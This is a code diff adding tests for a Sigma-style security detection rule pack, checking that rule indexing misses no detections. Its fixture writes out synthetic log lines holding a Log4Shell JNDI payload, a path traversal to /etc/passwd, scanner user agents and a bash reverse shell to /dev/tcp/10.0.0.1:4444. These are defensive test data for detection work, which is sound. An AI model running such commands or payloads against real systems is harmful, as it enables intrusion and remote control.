@@ -201,3 +201,56 @@ def test_upload_of_a_document_that_is_not_a_rule_is_a_422_and_changes_nothing(te
     assert r.json()["code"] in {"bad_sigma_rule", "bad_rule_yaml"}
     assert Rule.objects.count() == 0
     assert AuditEntry.objects.count() == entries
+
+
+def _pack_events():
+    from smartgov.seccloud import bench, normalize, syslog
+
+    now = "2026-12-04T15:30:00.000001Z"  # 23:30 in Asia/Shanghai: off-hours
+    lines = [bench._syslog_line(i, now) for i in range(40)]
+    lines += [
+        f'<13>1 {now} h smartgov - - [sg@1 user="root" src_ip="8.8.8.8" action="accounts.login.succeeded" '
+        f'actor_role="secadmin"] signed in',
+        f'<14>1 {now} h nginx - - - 1.2.3.4 - - [04/Dec/2026:10:00:00 +0800] "GET /a?q=${{jndi:ldap://x}} HTTP/1.1" '
+        f'200 1 "-" "curl"',
+        f'<14>1 {now} h nginx - - - 1.2.3.4 - - [04/Dec/2026:10:00:00 +0800] "GET / HTTP/1.1" 200 1 "-" '
+        f'"${{jndi:ldap://x}}"',
+        f'<14>1 {now} h nginx - - - 1.2.3.4 - - [04/Dec/2026:10:00:00 +0800] "GET /wp-login.php?x=../../etc/passwd '
+        f'HTTP/1.1" 404 1 "-" "sqlmap/1.7 Nikto"',
+        f"<38>1 {now} h bash - - - bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+        f"<86>1 {now} h sudo - - - ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
+    ]
+    return [normalize.flat(normalize.from_syslog(syslog.parse(x), x)) for x in lines]
+
+
+def test_the_pack_index_skips_no_matching_rule():
+    """Indexing only decides which rules are tried: the matches equal trying every rule on every event."""
+    from pathlib import Path
+
+    import smartgov.seccloud as pkg
+
+    text = (Path(pkg.__file__).parent / "rules" / "pack.yml").read_text()
+    pack = detection.RulePack([detection.compile_rule(r) for r in detection.load_rules(text)])
+    events = _pack_events()
+    for e in events:
+        assert {d.rule_id for d in pack.matches(e)} == {d.rule_id for d in pack.detections if d.match(e)}
+    titles = {d.title for e in events for d in pack.matches(e)}
+    assert {"管理员非工作时间登录（22:00–06:00）", "Log4Shell JNDI 注入", "疑似反弹shell命令"} <= titles
+    # an OR whose branches share a key is indexed (off-hours, Log4Shell): only the regex rule runs always
+    assert [d.title for d in pack.always] == ["疑似反弹shell命令"]
+
+
+def test_an_or_of_branches_on_different_fields_is_tried_on_every_event():
+    text = """
+title: t
+id: 11111111-1111-4111-8111-111111111112
+logsource: {product: test}
+detection:
+  a: {path|contains: evil}
+  b: {user_agent|contains: evil}
+  condition: a or b
+"""
+    (c,) = [detection.compile_rule(r) for r in detection.load_rules(text)]
+    assert c.index_key is None
+    pack = detection.RulePack([c])
+    assert pack.matches(ev(user_agent="EVIL bot")) == [c] and pack.matches(ev(path="/x")) == []
